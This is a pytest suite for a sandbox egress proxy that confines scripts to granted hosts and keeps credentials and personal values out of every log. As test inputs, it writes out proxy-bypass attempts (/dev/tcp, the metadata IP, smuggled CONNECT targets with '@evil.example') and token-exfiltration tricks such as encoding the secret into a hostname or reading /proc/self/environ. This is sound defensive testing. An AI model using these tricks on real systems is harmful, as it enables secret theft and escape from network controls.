"""What a script of free form reaches with a raw grant, and that nobody else is reached by it."""

import asyncio
import json
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from tests.runner.bench import Bench, Supervised, lease_of, until
from tests.runner.test_exceeding import assert_told

from vigil.domain.errors import PlanMismatch
from vigil.domain.plan import ActionResult, ActionStatus
from vigil.domain.run import RunOrder
from vigil.runner.egress import proxy
from vigil.runner.server import LEDGER

CREDENTIAL = "tok/en-of-the-admin-77"
pytestmark = pytest.mark.takes(30)
SELDOM = 2
CURL = 'curl -sS --proxytunnel --proxy "$HTTPS_PROXY" -m 8'


class Target(ThreadingHTTPServer):
    """A real server that keeps who comes; it holds on to who asks it to."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.heads: list[str] = []
        self.open: set[int] = set()
        self.serving = threading.Thread(target=self.serve_forever, args=(0.02,))
        self.serving.start()

    @property
    def port(self) -> int:
        return self.server_port

    def close(self) -> None:
        self.shutdown()
        self.server_close()
        self.serving.join()


class Answer(BaseHTTPRequestHandler):
    server: Target

    def do_GET(self) -> None:
        self.server.open.add(id(self))
        self.server.heads.append(f"{self.path}\n{self.headers}")
        try:
            self.send_response(200)
            self.end_headers()
            if self.path == "/hold":
                self.rfile.read(1)
            while self.path == "/much":
                self.wfile.write(bytes(1024 * 1024))
            self.wfile.write(b"hello\n")
        except OSError:
            pass
        finally:
            self.server.open.discard(id(self))

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[Target, Target]]:
    made = (Target(), Target())
    yield made
    for each in made:
        each.close()


@pytest.fixture
def target(servers: tuple[Target, Target]) -> Target:
    servers[0].heads.clear()
    return servers[0]


@pytest.fixture
def other(servers: tuple[Target, Target]) -> Target:
    """Somebody else on this machine, whom no grant names."""
    servers[1].heads.clear()
    return servers[1]


@pytest.fixture(scope="module")
def granting(
    tmp_path_factory: pytest.TempPathFactory,
    supervised: Supervised,
    servers: tuple[Target, Target],
) -> Iterator[Bench]:
    folder = tmp_path_factory.mktemp("raw")
    made = Bench(folder, supervised)
    kept = folder / "token"
    kept.write_text(f"{CREDENTIAL}\n")
    kept.chmod(0o600)
    port = servers[0].port
    here = {"host": "127.0.0.1", "port": port}
    made.raw_grants = {
        "admin": {**here, "credential_file": str(kept)},
        "seldom": {**here, "most_per_hour": SELDOM},
        "varied": {**here, "credential_env": "KEPT_BY_THE_RUNNER"},
        "lost": {**here, "credential_file": str(folder / "gone")},
        "named": {"host": "localhost", "port": port},
        "pinned": {"host": "shop.internal", "port": port, "addresses": ["127.0.0.1"]},
        "silent": {"host": "127.0.0.1", "port": 9},
        "customers": {**here, "private": ["email", "name"]},
    }
    made.environment["KEPT_BY_THE_RUNNER"] = CREDENTIAL
    made.start()
    yield made
    made.close()


@pytest.fixture
def own(granting: Bench) -> Iterator[Bench]:
    yield granting
    granting.reset()


def free(bench: Bench, script: str, *raw: str, **more: object) -> RunOrder:
    """An order for a script of free form, with every lock that it needs."""
    return bench.order(script, raw=raw, **more)  # type: ignore[arg-type] # timeout_s, lease


async def test_unmodified_curl_talks_to_what_is_granted(own: Bench, target: Target) -> None:
    script = (
        f'{CURL} -H "Authorization: Bearer $(cat /vigil/credentials/admin)" '
        f"http://127.0.0.1:{target.port}/status"
    )
    result = await own.run(free(own, script, "admin"))
    assert (result.status, result.output) == (ActionStatus.SUCCEEDED, "hello"), result.output
    (head,) = target.heads
    assert f"Bearer {CREDENTIAL}\n" in head
    (record,) = result.calls
    assert record.allowed
    assert record.call.verb == "connect"
    assert record.call.arguments == (f"127.0.0.1:{target.port}",)
    assert record.result == "connected to 127.0.0.1"


async def test_a_name_that_its_owner_has_written_an_address_for(own: Bench, target: Target) -> None:
    result = await own.run(free(own, f"{CURL} http://shop.internal:{target.port}/", "pinned"))
    assert result.status is ActionStatus.SUCCEEDED
    assert len(target.heads) == 1


class TestNobodyElse:
    async def test_by_the_proxy(self, own: Bench, target: Target, other: Target) -> None:
        for where in (f"127.0.0.1:{other.port}", f"localhost:{target.port}", "169.254.169.254:80"):
            script = f"{CURL} http://{where}/ 2>&1 || true"
            result = await own.run(free(own, script, "admin"))
            assert_told(result, "no raw grant for")
            assert "403" in result.output
        assert target.heads == other.heads == []

    async def test_past_the_proxy(self, own: Bench, target: Target) -> None:
        script = (
            f"curl -sS --noproxy '*' -m 3 http://127.0.0.1:{target.port}/ 2>&1 || true\n"
            f"(: < /dev/tcp/127.0.0.1/{target.port}) 2>&1 || true\n"
            "(: < /dev/tcp/192.0.2.1/80) 2>&1 || true\n"
            "(: < /dev/udp/127.0.0.1/53) && echo udp || true\n"
            "python3 -c 'import socket; socket.socket(socket.AF_INET6)' 2>&1 || true\n"
            "python3 -c 'import socket; socket.socket(socket.AF_NETLINK, 3)' 2>&1 || true\n"
        )
        result = await own.run(free(own, script, "admin"))
        assert target.heads == []
        assert "hello" not in result.output
        assert result.output.count("Connection refused") >= 1
        assert "Network is unreachable" in result.output
        assert result.output.count("Address family not supported") == 2

    async def test_by_a_name_that_leads_into_this_network(self, own: Bench, target: Target) -> None:
        result = await own.run(free(own, f"{CURL} http://localhost:{target.port}/", "named"))
        assert_told(result, "which is not public")
        assert target.heads == []

    async def test_by_a_request_that_is_no_connect(self, own: Bench, target: Target) -> None:
        script = f'curl -sS -x "$HTTPS_PROXY" http://127.0.0.1:{target.port}/'
        result = await own.run(free(own, script, "admin"))
        assert_told(result, "only CONNECT")
        assert target.heads == []

    @pytest.mark.parametrize(
        ("sent", "said"),
        [
            ("b'x' * 200_000", "more than 4096 bytes"),
            ("b'CONNECT 127.0.0.1:{port} HTTP/1.1' + b'x' * 9000", "more than 4096 bytes"),
            (r"b'CONNECT 127.0.0.1:{port}@evil.example HTTP/1.1\r\n\r\n'", "only CONNECT"),
            (r"b'CONNECT 127.0.0.1:0{port} HTTP/1.1\r\n\r\n'", "only CONNECT"),
            (r"b'CONNECT 2130706433:{port} HTTP/1.1\r\n\r\n'", "no raw grant for"),
            (r"b'CONNECT 127.1:{port} HTTP/1.1\r\n\r\n'", "no raw grant for"),
            (r"bytes(range(256)) + b'\r\n\r\n'", "only CONNECT"),
        ],
    )
    async def test_by_what_is_no_whole_request(
        self, own: Bench, target: Target, sent: str, said: str
    ) -> None:
        knock = (
            "import contextlib, socket\n"
            "s = socket.socket(socket.AF_UNIX); s.connect('/vigil/proxy.sock')\n"
            f"with contextlib.suppress(OSError): s.sendall({sent.format(port=target.port)})\n"
            "print(s.recv(4000))\n"
        )
        result = await own.run(free(own, f"python3 - <<'END'\n{knock}END\n", "admin"))
        assert_told(result, said)
        assert target.heads == []

    async def test_without_a_raw_grant_there_is_no_proxy(self, own: Bench) -> None:
        result = await own.do('ls /vigil; echo "${HTTPS_PROXY:-none}"')
        assert result.output.split() == ["bin", "broker.sock", "script", "none"]

    async def test_who_does_not_answer_is_told_apart(self, own: Bench) -> None:
        result = await own.run(free(own, f"{CURL} http://127.0.0.1:9/", "silent"))
        assert result.status is ActionStatus.FAILED
        assert "127.0.0.1:9 does not answer" in result.calls[0].result


class TestCredential:
    async def test_is_a_file_for_one_run_and_in_no_word_of_it(
        self, own: Bench, target: Target
    ) -> None:
        script = (
            "token=$(cat /vigil/credentials/admin)\n"
            'echo "as it is $token"; echo "$token" | base64; echo "user:$token" | base64 -w0\n'
            'printf "%s as hex: " ""; printf %s "$token" | od -An -tx1 -v | tr -d " \\n"; echo\n'
            f"{CURL} http://127.0.0.1:{target.port}/ -o /dev/null "
            '-H "Authorization: Bearer $token"\n'
            f'{CURL} "http://$token.example.com:80/" || true\n'
            'vigil-do release.switch "$token" "$token" || true\n'
            "env | grep -i token || true\n"
            "tr '\\0' '\\n' < /proc/self/environ | grep -c tok || true\n"
        )
        lines: list[str] = []
        order = free(own, script, "admin")
        result = await own.run(order, lines)
        assert target.heads
        assert CREDENTIAL in target.heads[0]
        with closing(sqlite3.connect(own.state / LEDGER)) as ledger:
            kept = "\n".join(ledger.iterdump())
        told = result.model_dump_json() + "\n".join(lines) + own.log.read_text() + kept
        told += order.model_dump_json()
        for form in (CREDENTIAL, CREDENTIAL.encode().hex(), CREDENTIAL[:10]):
            assert form not in told
        assert "as it is [credential]" in result.output
        # Nothing of it is left, where the sandbox's folder was or anywhere else.
        assert own.sandboxes() == []

    async def test_of_a_variable_of_the_runner(self, own: Bench) -> None:
        script = 'wc -c < /vigil/credentials/varied; env | cut -d= -f1 | sort | tr "\\n" " "'
        result = await own.run(free(own, script, "varied"))
        assert result.output.split()[0] == str(len(CREDENTIAL))
        assert "KEPT_BY_THE_RUNNER" not in result.output

    async def test_cannot_be_written_and_is_no_other_grants(self, own: Bench) -> None:
        script = "ls /vigil/credentials; echo x > /vigil/credentials/admin"
        result = await own.run(free(own, script, "admin"))
        assert result.status is ActionStatus.FAILED
        assert result.output.splitlines()[0] == "admin"
        assert "Read-only" in result.output or "Permission denied" in result.output

    async def test_that_is_gone_begins_nothing(self, own: Bench) -> None:
        result = await own.run(free(own, "echo started", "lost"))
        assert (result.status, result.exit_code) == (ActionStatus.FAILED, None)
        assert "cannot be read" in result.output


class TestPrivateValues:
    """What a token stands for, in a file, where a raw grant has its kind."""

    MEANT = {"[EMAIL_1]": "anna.meier@example.org", "[NAME_2]": "Zoë Li"}
    SCRIPT = (
        "cat /vigil/private/EMAIL_1 /vigil/private/NAME_2; echo\n"
        "base64 < /vigil/private/EMAIL_1; ls /vigil/private | sort | tr '\\n' ' '; echo\n"
        "cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -c 'mei[e]r' || true\n"
        'vigil-do release.switch "$(cat /vigil/private/EMAIL_1)" || true\n'
    )

    async def test_are_given_to_the_script_and_told_to_nobody(
        self, own: Bench, target: Target
    ) -> None:
        script = (
            f"{self.SCRIPT}{CURL} -o /dev/null -H @- http://127.0.0.1:{target.port}/ <<END\n"
            "X-Who: $(cat /vigil/private/EMAIL_1)\nEND\n"
        )
        lines: list[str] = []
        order = free(own, script, "customers", private=self.MEANT)
        result = await own.run(order, lines)
        assert "X-Who: anna.meier@example.org" in target.heads[0]
        with closing(sqlite3.connect(own.state / LEDGER)) as ledger:
            kept = "\n".join(ledger.iterdump())
        told = result.model_dump_json() + "\n".join(lines) + own.log.read_text() + kept
        told += order.plan.model_dump_json() + repr(order)
        for value in ("anna", "meier@", "Zoë", "Zo\\u00eb", "YW5uYS5tZWll"):
            assert value not in told
        assert result.output.splitlines()[0] == "[EMAIL_1][NAME_2]"
        assert result.output.splitlines()[2:4] == ["EMAIL_1 NAME_2", "0"]

    @pytest.mark.parametrize(
        ("grant", "meant", "because"),
        [
            ("customers", {"[EMAIL_1]": "a@example.org"}, "brings others"),
            ("customers", {**MEANT, "[NAME_3]": "Bo"}, "brings others"),
            ("customers", {}, "brings others"),
            ("admin", MEANT, "grants nothing of the kind of"),
        ],
        ids=["too few", "too many", "none", "not granted"],
    )
    async def test_no_others_than_the_judged_script_reads(
        self, own: Bench, grant: str, meant: dict[str, str], because: str
    ) -> None:
        with pytest.raises(PlanMismatch, match=because) as refused:
            await own.run(free(own, self.SCRIPT, grant, private=meant))
        assert "example.org" not in str(refused.value)


class TestExceeding:
    """As in ``test_exceeding.py``, with a raw grant."""

    async def test_in_rate(self, own: Bench, target: Target) -> None:
        for _ in range(SELDOM):
            await own.run(free(own, f"{CURL} http://127.0.0.1:{target.port}/", "seldom"))
        own.kill()
        own.start()
        result = await own.run(free(own, f"{CURL} http://127.0.0.1:{target.port}/", "seldom"))
        assert_told(result, f"allows {SELDOM} calls an hour")
        assert len(target.heads) == SELDOM

    async def test_in_number(self, own: Bench, target: Target) -> None:
        most = proxy.MAX_ATTEMPTS
        script = (
            f"for n in $(seq {most + 3}); do "
            f"{CURL} -o /dev/null -w '%{{http_connect}} ' http://127.0.0.1:{target.port}/ 2>&- "
            "|| true; done"
        )
        result = await own.run(free(own, script, "admin", timeout_s=60.0))
        assert len(target.heads) == most
        assert result.output.split() == ["200"] * most + ["403"] * 3
        assert_told(result, f"more than {most} connections in one run")
        assert len(result.calls) == most + 1

    async def test_in_bytes(self, own: Bench, target: Target) -> None:
        script = f"{CURL} -o /dev/null http://127.0.0.1:{target.port}/much 2>&1 || true"
        result = await own.run(free(own, script, "admin", timeout_s=30.0))
        assert_told(result, "bytes in one run")

    async def test_after_the_plan_ended(self, own: Bench, target: Target) -> None:
        """Its connections end with it, and its run is only ever answered again."""
        held = f"{CURL} -m 60 --suppress-connect-headers -D /tmp/head"
        script = (
            f"({held} http://127.0.0.1:{target.port}/hold &)\n"
            "until [ -s /tmp/head ]; do sleep 0.05; done; echo end"
        )
        order = free(own, script, "admin")
        result = await own.run(order)
        assert "end" in result.output
        await until(lambda: not target.open)
        assert len(target.heads) == 1
        assert await own.run(order) == result
        assert len(target.heads) == 1

    async def test_without_a_lock(self, own: Bench, target: Target) -> None:
        script = f"{CURL} http://127.0.0.1:{target.port}/"
        result = await own.run(free(own, script, "admin", lease=lease_of(90, "shop/?")))
        assert_told(result, "holds no lock on shop/raw:admin")
        assert target.heads == []

    async def test_with_verbs_that_were_not_judged(self, own: Bench) -> None:
        """Free form is what it talks to, not what the broker does."""
        result = await own.run(free(own, f"x=vigil-do; $x {own.to('one')[9:]}", "admin"))
        assert_told(result, "does not contain this call")
        assert own.current == "two"


class TestStopSwitch:
    async def test_cuts_off_what_is_open_and_lets_nothing_begin(
        self, own: Bench, target: Target
    ) -> None:
        url = f"http://127.0.0.1:{target.port}"
        # It would hold on for longer than anybody here waits.
        script = f"{CURL} -m 60 {url}/hold 2>&1 || true\n{CURL} {url}/ 2>&1 || true"
        running = asyncio.create_task(own.run(free(own, script, "admin", timeout_s=60.0)))
        await until(lambda: bool(target.open))
        own.switch(stopped=True)
        await until(lambda: not target.open)
        result = await running
        assert result.status is ActionStatus.STOPPED
        assert len(target.heads) == 1
        assert "stop switch" in result.calls[-1].result


async def test_a_run_that_was_cut_off_behind_a_connection_is_never_run_again(
    own: Bench, target: Target
) -> None:
    script = f"{CURL} http://127.0.0.1:{target.port}/; sleep 30"
    order = free(own, script, "admin", timeout_s=60.0)
    running = asyncio.create_task(own.run(order))
    await until(lambda: len(target.heads) == 1)
    own.kill()
    with pytest.raises(Exception, match="same run key"):
        await running
    own.start()
    result = await own.run(order)
    assert result.status is ActionStatus.UNCERTAIN
    assert "connect(admin)" in result.output
    assert len(target.heads) == 1


async def test_each_refusal_is_in_the_ledger(own: Bench, other: Target) -> None:
    order = free(own, f"{CURL} http://127.0.0.1:{other.port}/", "admin")
    result: ActionResult = await own.run(order)
    with closing(sqlite3.connect(own.state / LEDGER)) as ledger:
        query = "SELECT record FROM calls WHERE run_key = ?"
        rows = [json.loads(row) for (row,) in ledger.execute(query, [order.run_key])]
    assert [row["allowed"] for row in rows] == [False]
    assert rows[0]["result"] == result.calls[0].result
